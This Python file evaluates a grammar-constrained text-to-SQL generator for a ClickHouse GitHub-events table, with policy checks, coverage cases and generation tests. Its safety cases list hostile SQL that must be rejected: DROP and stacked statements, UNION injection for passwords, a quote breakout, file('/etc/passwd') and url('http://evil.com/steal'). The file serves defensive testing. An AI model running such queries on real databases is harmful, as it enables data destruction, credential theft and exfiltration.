from __future__ import annotations

import argparse
import asyncio
import logging
import time
from dataclasses import dataclass
from functools import lru_cache
from typing import Dict, List, Optional, Sequence, Set, Tuple

import sqlglot
from lark import Lark
from lark.exceptions import LarkError
from sqlglot import errors as sg_errors, exp

import config
from clickhouse_client import fetch_table_columns
from generator import SQLGenerationError, generate_sql
from grammar import build_grammar
from grammar_parser import is_valid_grammar_sql
from schema import STATIC_SCHEMA, SchemaCache, TableSchema

logger = logging.getLogger(__name__)


# ---------- 1) Lark syntax acceptance ----------
@lru_cache(maxsize=16)
def _get_lark(grammar_text: str) -> Lark:
    # Earley with the dynamic lexer: the grammar spells out every space, so
    # literals and regex terminals must be matched in context.
    return Lark(grammar_text, start="start", parser="earley", lexer="dynamic")


def grammar_accepts(sql: str, schema: TableSchema = STATIC_SCHEMA) -> Tuple[bool, str]:
    try:
        _get_lark(build_grammar(schema)).parse(sql.strip())
        return True, ""
    except LarkError as e:
        return False, f"Lark rejection: {e}"


# ---------- 2) General SQL syntax with sqlglot (ClickHouse) ----------
def is_valid_clickhouse_sql(sql: str) -> Tuple[bool, str]:
    """True if sqlglot can parse the query under the ClickHouse dialect."""
    try:
        sqlglot.parse_one(sql, read="clickhouse")
        return True, ""
    except (sg_errors.ParseError, sg_errors.TokenError) as e:
        return False, f"sqlglot ParseError: {e}"


# ---------- 3) Policy / safety checks (AST-based) ----------
# Only functions sqlglot leaves untyped are checked by name.
ALLOWED_ANONYMOUS_FUNCS: Set[str] = {
    "count",
    "sum",
    "avg",
    "min",
    "max",
    "uniq",
    "uniqexact",
    "tostartofhour",
    "tostartofday",
    "tostartofweek",
    "tostartofmonth",
    "todate",
    "now",
}

FORBIDDEN_NODES = (
    exp.Update,
    exp.Delete,
    exp.Insert,
    exp.Create,
    exp.Drop,
    exp.Alter,
    exp.Command,
    exp.Join,
    exp.Union,
    exp.With,  # forbid CTEs
    exp.Window,  # forbid window functions
    exp.Subquery,
    exp.Set,  # SET statements
)


def policy_check(sql: str, schema: TableSchema = STATIC_SCHEMA) -> Tuple[bool, List[str]]:
    """
    Enforces a single read-only SELECT over the schema's table, without
    joins/unions/CTEs/subqueries, using only schema columns, their aliases and
    whitelisted functions. Returns (ok, problems[])
    """
    problems: List[str] = []
    try:
        statements = [s for s in sqlglot.parse(sql, read="clickhouse") if s is not None]
    except (sg_errors.ParseError, sg_errors.TokenError) as e:
        return False, [f"Not parseable for policy check: {e}"]

    if len(statements) != 1:
        return False, [f"Expected exactly one statement, found {len(statements)}."]
    tree = statements[0]

    for node in tree.walk():
        if isinstance(node, FORBIDDEN_NODES):
            problems.append(f"Forbidden clause: {type(node).__name__}")

    if not isinstance(tree, exp.Select):
        problems.append("Query is not a SELECT.")
        return False, problems

    for table in tree.find_all(exp.Table):
        if table.db or table.name != schema.table_name:
            problems.append(f"Table not allowed: {table.sql(dialect='clickhouse')}")

    for item in tree.expressions:
        if isinstance(item, exp.Star) or (isinstance(item, exp.Column) and isinstance(item.this, exp.Star)):
            problems.append("SELECT * is not allowed.")

    allowed_cols = {c.name for c in schema.columns}
    allowed_cols.update(a.alias for a in tree.find_all(exp.Alias) if a.alias)
    for col in tree.find_all(exp.Column):
        name = col.name
        if name and name not in allowed_cols:
            problems.append(f"Unknown column: {name}")

    for f in tree.find_all(exp.Anonymous):
        fname = (f.name or "").lower()
        if fname and fname not in ALLOWED_ANONYMOUS_FUNCS:
            problems.append(f"Function not allowed: {f.name}")

    return (len(problems) == 0), problems


# ---------- Eval cases ----------
@dataclass(frozen=True)
class GrammarCase:
    id: str
    description: str
    sql: str
    should_parse: bool


@dataclass(frozen=True)
class GenerationCase:
    id: str
    description: str
    nl_query: str
    expected_sql_contains: Tuple[str, ...]


@dataclass
class EvalCaseResult:
    id: str
    category: str
    description: str
    passed: bool
    details: str
    duration_ms: int


COVERAGE = "grammar-coverage"
SAFETY = "grammar-safety"
GENERATION = "generation"

METRIC_NAMES: Dict[str, str] = {COVERAGE: "recall", SAFETY: "precision", GENERATION: "accuracy"}

# Every query shape the grammar claims to support (recall).
COVERAGE_CASES: Tuple[GrammarCase, ...] = (
    GrammarCase("basic_count", "Simple count with filter",
                "SELECT count() AS total FROM github_events WHERE type = 'PushEvent'", True),
    GrammarCase("count_with_column", "Count with a column argument",
                "SELECT count(id) AS cnt FROM github_events WHERE type = 'PushEvent'", True),
    GrammarCase("time_series_hourly", "Hourly event breakdown",
                "SELECT toStartOfHour(created_at) AS hour, count() AS events FROM github_events "
                "GROUP BY hour ORDER BY hour ASC", True),
    GrammarCase("time_series_daily", "Daily event counts",
                "SELECT toStartOfDay(created_at) AS day, count() AS events FROM github_events "
                "GROUP BY day ORDER BY day ASC", True),
    GrammarCase("time_series_weekly", "Weekly aggregation",
                "SELECT toStartOfWeek(created_at) AS week, count() AS events FROM github_events "
                "GROUP BY week ORDER BY week ASC", True),
    GrammarCase("time_series_monthly", "Monthly aggregation",
                "SELECT toStartOfMonth(created_at) AS month, count() AS events FROM github_events "
                "GROUP BY month ORDER BY month ASC", True),
    GrammarCase("to_date_truncation", "Date truncation with toDate",
                "SELECT toDate(created_at) AS day, count() AS events FROM github_events "
                "GROUP BY day ORDER BY day ASC", True),
    GrammarCase("having_clause", "Filter on aggregate with HAVING",
                "SELECT actor_login, count() AS prs FROM github_events WHERE type = 'PullRequestEvent' "
                "GROUP BY actor_login HAVING count() > 10 ORDER BY prs DESC LIMIT 20", True),
    GrammarCase("multi_condition_where", "Multiple WHERE conditions with AND",
                "SELECT repo_name, count() AS issues FROM github_events WHERE type = 'IssuesEvent' "
                "AND action = 'opened' GROUP BY repo_name ORDER BY issues DESC LIMIT 10", True),
    GrammarCase("unique_contributors", "Count distinct users with uniqExact",
                "SELECT repo_name, uniqExact(actor_login) AS contributors FROM github_events "
                "WHERE type = 'PushEvent' GROUP BY repo_name ORDER BY contributors DESC LIMIT 10", True),
    GrammarCase("interval_filter", "Relative date filter with INTERVAL",
                "SELECT repo_name, count() AS events FROM github_events WHERE created_at >= now() - "
                "INTERVAL 7 DAY GROUP BY repo_name ORDER BY events DESC LIMIT 10", True),
    GrammarCase("between_dates", "Date BETWEEN with literal dates",
                "SELECT repo_name, count() AS events FROM github_events WHERE created_at BETWEEN "
                "'2025-11-01' AND '2025-11-01' GROUP BY repo_name ORDER BY events DESC LIMIT 10", True),
    GrammarCase("enum_in_list", "Type IN list with multiple event types",
                "SELECT type, count() AS cnt FROM github_events WHERE type IN ('PushEvent', "
                "'PullRequestEvent') GROUP BY type ORDER BY cnt DESC", True),
    GrammarCase("bare_aggregation", "Aggregation without GROUP BY",
                "SELECT count() AS total FROM github_events", True),
    GrammarCase("sum_aggregation", "SUM aggregation function",
                "SELECT repo_name, sum(number) AS total_issues FROM github_events WHERE type = "
                "'IssuesEvent' GROUP BY repo_name ORDER BY total_issues DESC LIMIT 10", True),
    GrammarCase("avg_aggregation", "AVG aggregation function",
                "SELECT type, avg(number) AS avg_num FROM github_events GROUP BY type "
                "ORDER BY avg_num DESC LIMIT 10", True),
    GrammarCase("min_max_aggregation", "MIN and MAX in same query",
                "SELECT min(number) AS lowest, max(number) AS highest FROM github_events "
                "WHERE type = 'IssuesEvent'", True),
    GrammarCase("like_filter", "String LIKE filter",
                "SELECT repo_name, count() AS events FROM github_events WHERE repo_name LIKE "
                "'%kubernetes%' GROUP BY repo_name ORDER BY events DESC LIMIT 10", True),
    GrammarCase("numeric_comparison", "Numeric comparison in WHERE",
                "SELECT repo_name, count() AS events FROM github_events WHERE number > 100 "
                "GROUP BY repo_name ORDER BY events DESC LIMIT 10", True),
    GrammarCase("order_asc", "ORDER BY ascending",
                "SELECT actor_login, count() AS events FROM github_events GROUP BY actor_login "
                "ORDER BY events ASC LIMIT 10", True),
    GrammarCase("action_filter", "Action value filter",
                "SELECT repo_name, count() AS opened FROM github_events WHERE action = 'opened' "
                "GROUP BY repo_name ORDER BY opened DESC LIMIT 10", True),
    GrammarCase("uniq_function", "uniq (non-exact) aggregation",
                "SELECT type, uniq(actor_login) AS users FROM github_events GROUP BY type "
                "ORDER BY users DESC LIMIT 10", True),
    GrammarCase("string_equality", "String equality filter on actor_login",
                "SELECT type, count() AS events FROM github_events WHERE actor_login = 'torvalds' "
                "GROUP BY type ORDER BY events DESC", True),
    GrammarCase("multiple_select_cols", "Mix of column refs and aggregates",
                "SELECT type, repo_name, count() AS cnt FROM github_events GROUP BY type, repo_name "
                "ORDER BY cnt DESC LIMIT 20", True),
    GrammarCase("interval_hour", "INTERVAL with HOUR unit",
                "SELECT count() AS events FROM github_events WHERE created_at >= now() - INTERVAL 12 HOUR",
                True),
    GrammarCase("not_equal_numeric", "Two-character comparison operator",
                "SELECT count() AS events FROM github_events WHERE is_private != 1", True),
    GrammarCase("string_in_list", "String IN list",
                "SELECT repo_name, count() AS events FROM github_events WHERE repo_name IN "
                "('torvalds/linux', 'rust-lang/rust') GROUP BY repo_name LIMIT 10", True),
)

# Dangerous or unsupported SQL that must be rejected (precision).
SAFETY_CASES: Tuple[GrammarCase, ...] = (
    GrammarCase("drop_table", "DDL: DROP TABLE", "DROP TABLE github_events", False),
    GrammarCase("insert_statement", "Data mutation: INSERT",
                "INSERT INTO github_events (type) VALUES ('MaliciousEvent')", False),
    GrammarCase("alter_table", "DDL: ALTER TABLE", "ALTER TABLE github_events DELETE WHERE 1=1", False),
    GrammarCase("truncate_table", "DDL: TRUNCATE TABLE", "TRUNCATE TABLE github_events", False),
    GrammarCase("update_statement", "Data mutation: ALTER UPDATE",
                "ALTER TABLE github_events UPDATE type = 'Malicious' WHERE 1=1", False),
    GrammarCase("sql_injection_union", "Injection via UNION",
                "SELECT repo_name FROM github_events UNION SELECT password FROM users", False),
    GrammarCase("sql_injection_comment", "Injection via SQL comment",
                "SELECT repo_name FROM github_events WHERE type = 'PushEvent' -- AND is_private = 0", False),
    GrammarCase("semicolon_chaining", "Multiple statements via semicolon",
                "SELECT 1; DROP TABLE github_events", False),
    GrammarCase("subquery_injection", "Subquery in FROM clause",
                "SELECT * FROM (SELECT * FROM system.tables) AS t", False),
    GrammarCase("system_table_access", "Access system tables", "SELECT * FROM system.processes", False),
    GrammarCase("system_table_tables", "Enumerate all tables", "SELECT name FROM system.tables", False),
    GrammarCase("unbounded_select_star", "Unbounded SELECT *", "SELECT * FROM github_events", False),
    GrammarCase("select_star_with_where", "SELECT * even with WHERE",
                "SELECT * FROM github_events WHERE type = 'PushEvent'", False),
    GrammarCase("file_read", "ClickHouse file() table function", "SELECT * FROM file('/etc/passwd')", False),
    GrammarCase("url_function", "ClickHouse url() table function",
                "SELECT * FROM url('http://evil.com/steal')", False),
    GrammarCase("multi_table_from", "Multi-table FROM (implicit join)",
                "SELECT * FROM github_events, system.tables", False),
    GrammarCase("join_clause", "JOIN is not in the grammar",
                "SELECT a.repo_name FROM github_events a JOIN system.tables b ON a.repo_name = b.name", False),
    GrammarCase("cte_with_clause", "CTE / WITH is not in the grammar",
                "WITH top_repos AS (SELECT repo_name FROM github_events LIMIT 10) SELECT * FROM top_repos",
                False),
    GrammarCase("quote_breakout", "Quote breakout in a string value",
                "SELECT count() AS total FROM github_events WHERE actor_login = 'x' OR '1'='1'", False),
    GrammarCase("lowercase_keywords", "Keywords must be upper case",
                "select count() as total from github_events", False),
)

# End-to-end prompts: the model must produce grammar-valid SQL with these fragments.
GENERATION_CASES: Tuple[GenerationCase, ...] = (
    GenerationCase("top_repos_by_pushes", "Top repos by push events",
                   "What are the top 10 most pushed-to repos?",
                   ("PushEvent", "GROUP BY", "ORDER BY", "DESC", "LIMIT")),
    GenerationCase("total_event_count", "Total event count (scalar)",
                   "How many events are there in total?", ("count(",)),
    GenerationCase("hourly_events", "Hourly event counts",
                   "Show me hourly event counts on 2025-11-01", ("toStartOfHour", "count(", "GROUP BY")),
    GenerationCase("top_issue_openers", "Top issue-opening users",
                   "Which users opened the most issues?", ("IssuesEvent", "actor_login", "GROUP BY")),
    GenerationCase("pr_repos", "Repos with most pull requests",
                   "Top 5 repos by pull request count", ("PullRequestEvent", "repo_name", "GROUP BY", "LIMIT")),
    GenerationCase("unique_contributors", "Repos with unique contributors",
                   "Which repos have the most unique contributors?",
                   ("uniq", "actor_login", "repo_name", "GROUP BY")),
    GenerationCase("event_type_breakdown", "Event type breakdown",
                   "Show me a breakdown of events by type", ("type", "count(", "GROUP BY")),
    GenerationCase("fork_count", "Fork event count", "How many forks happened?", ("ForkEvent", "count(")),
)


def sample_queries() -> List[str]:
    """Natural-language prompts used for UI suggestions."""
    return [c.nl_query for c in GENERATION_CASES] + [
        "Which repos got the most stars in the last 7 days?",
        "Daily push events over the last month",
        "Who opened the most pull requests?",
        "How many releases were published per week?",
    ]


# ---------- Runners ----------
def _elapsed_ms(start: float) -> int:
    return round((time.perf_counter() - start) * 1000)


def run_grammar_case(case: GrammarCase, category: str, schema: TableSchema = STATIC_SCHEMA) -> EvalCaseResult:
    """Check one SQL string with the recursive-descent verifier and Lark.

    A case passes only when both sides agree with the expectation.
    """
    start = time.perf_counter()
    verifier_ok = is_valid_grammar_sql(case.sql, schema)
    lark_ok, lark_msg = grammar_accepts(case.sql, schema)
    duration_ms = _elapsed_ms(start)

    passed = verifier_ok == case.should_parse and lark_ok == case.should_parse
    if passed:
        details = "Grammar accepted the SQL (expected)" if case.should_parse else "Grammar rejected the SQL (expected)"
    elif verifier_ok != lark_ok:
        details = f"Verifier and Lark disagree (verifier={verifier_ok}, lark={lark_ok}). {lark_msg}".strip()
    elif case.should_parse:
        details = f"Grammar rejected the SQL: {case.sql}"
    else:
        details = f"DANGER: Grammar accepted the SQL: {case.sql}"
    return EvalCaseResult(case.id, category, case.description, passed, details, duration_ms)


def run_grammar_evals(schema: TableSchema = STATIC_SCHEMA) -> List[EvalCaseResult]:
    results = [run_grammar_case(c, COVERAGE, schema) for c in COVERAGE_CASES]
    results += [run_grammar_case(c, SAFETY, schema) for c in SAFETY_CASES]
    return results


async def run_generation_case(case: GenerationCase, schema: TableSchema) -> EvalCaseResult:
    start = time.perf_counter()
    try:
        generated = await generate_sql(case.nl_query, schema)
    except SQLGenerationError as e:
        return EvalCaseResult(case.id, GENERATION, case.description, False, str(e), _elapsed_ms(start))

    sql = generated.sql
    problems: List[str] = []
    if not is_valid_grammar_sql(sql, schema):
        problems.append("rejected by grammar verifier")
    policy_ok, policy_problems = policy_check(sql, schema)
    if not policy_ok:
        problems.extend(policy_problems)
    upper = sql.upper()
    missing = [frag for frag in case.expected_sql_contains if frag.upper() not in upper]
    if missing:
        problems.append(f"missing fragments: {', '.join(missing)}")

    details = sql if not problems else f"{sql}\n" + "; ".join(problems)
    return EvalCaseResult(case.id, GENERATION, case.description, not problems, details, _elapsed_ms(start))


async def run_generation_evals(
    schema: TableSchema,
    cases: Sequence[GenerationCase] = GENERATION_CASES,
    concurrency: int = config.EVAL_CONCURRENCY,
) -> List[EvalCaseResult]:
    """Run model-level cases with at most `concurrency` requests in flight."""
    semaphore = asyncio.Semaphore(max(1, concurrency))

    async def bounded(case: GenerationCase) -> EvalCaseResult:
        async with semaphore:
            logger.info("Running generation case %s", case.id)
            return await run_generation_case(case, schema)

    return list(await asyncio.gather(*(bounded(c) for c in cases)))


def summarize(results: Sequence[EvalCaseResult]) -> dict:
    """Totals plus one metric per category (recall, precision or accuracy)."""
    by_category: Dict[str, dict] = {}
    for category in (COVERAGE, SAFETY, GENERATION):
        cat_results = [r for r in results if r.category == category]
        if not cat_results:
            continue
        passed = sum(r.passed for r in cat_results)
        by_category[category] = {
            "total": len(cat_results),
            "passed": passed,
            "metric": passed / len(cat_results),
            "metric_name": METRIC_NAMES[category],
        }
    passed = sum(r.passed for r in results)
    return {
        "total": len(results),
        "passed": passed,
        "failed": len(results) - passed,
        "by_category": by_category,
    }


def _print_report(results: Sequence[EvalCaseResult]) -> None:
    for r in results:
        print(f"[{'PASS' if r.passed else 'FAIL'}] {r.category:<17} {r.id:<24} {r.details.splitlines()[0]}")
    summary = summarize(results)
    print()
    for category, s in summary["by_category"].items():
        print(f"{category:<17} {s['metric_name']}={s['metric']:.0%} ({s['passed']}/{s['total']})")
    print(f"total: {summary['passed']}/{summary['total']} passed")


def main(argv: Optional[Sequence[str]] = None) -> int:
    parser = argparse.ArgumentParser(description="Run grammar and generation evals.")
    parser.add_argument("--category", choices=("grammar", "generation", "all"), default="grammar")
    parser.add_argument("--table", default=config.CLICKHOUSE_TABLE)
    parser.add_argument("--live-schema", action="store_true", help="Introspect the table in ClickHouse.")
    parser.add_argument("--concurrency", type=int, default=config.EVAL_CONCURRENCY)
    args = parser.parse_args(argv)

    logging.basicConfig(level=config.LOG_LEVEL, format="%(asctime)s %(levelname)s %(name)s: %(message)s")

    schema = STATIC_SCHEMA
    if args.live_schema:
        schema = SchemaCache(fetch_table_columns).get(args.table)

    results: List[EvalCaseResult] = []
    if args.category in ("grammar", "all"):
        results += run_grammar_evals(schema)
    if args.category in ("generation", "all"):
        results += asyncio.run(run_generation_evals(schema, concurrency=args.concurrency))

    _print_report(results)
    return 0 if all(r.passed for r in results) else 1


if __name__ == "__main__":
    raise SystemExit(main())
